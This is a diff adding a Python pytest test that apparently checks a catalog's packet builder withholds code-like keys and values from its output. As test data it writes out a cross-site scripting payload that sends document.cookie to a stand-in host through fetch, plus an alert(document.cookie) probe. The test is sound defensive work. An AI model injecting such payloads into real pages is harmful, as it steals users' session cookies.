@@ -166,3 +166,30 @@ def test_an_unreadable_record_is_neither_done_nor_unchecked(signed: Path) -> Non
     assert rows and rows[0]["state"] == "unreadable"
     assert rows[0]["signature"] == "not_read"
     assert _path(signed, MOOD)["approvals"][0] == "missing"
+
+
+# ---- a packet withholds a key that looks like code, as it withholds a value ---------------
+
+@pytest.mark.parametrize("long", [False, True])
+def test_a_code_key_is_withheld_from_the_packet(tmp_path_factory: pytest.TempPathFactory,
+                                                tmp_path: Path, long: bool) -> None:
+    from risutools.catalog.packet import WITHHELD, WITHHELD_KEY, build_packet
+
+    c = fresh_catalog(tmp_path_factory, tmp_path)
+    p = doc_path(c, MOOD)
+    doc = json.loads(p.read_text("utf-8"))
+    code = "<script>fetch('https://x/?'+document.cookie)</script>"
+    if long:  # (past a pointer's shown length: the finding names the object holding it)
+        code = "<script>" + "a" * 5000 + "document.cookie</script>"
+    doc["payload"]["state_effects"] = {code: "remembers the page", "plain": "a note",
+                                       "other": "<script>alert(document.cookie)</script>"}
+    p.write_text(json.dumps(doc, ensure_ascii=False, indent=1), "utf-8")
+    cat = Catalog.open(c)
+    pk = build_packet(cat, cat.resolve(MOOD), "light")
+    assert "document.cookie" not in json.dumps(pk, ensure_ascii=False)
+    effects = pk["document"]["payload"]["state_effects"]
+    if long:
+        assert effects == WITHHELD
+    else:
+        assert effects[WITHHELD_KEY] == WITHHELD and effects["plain"] == "a note"
+        assert effects["other"] == WITHHELD
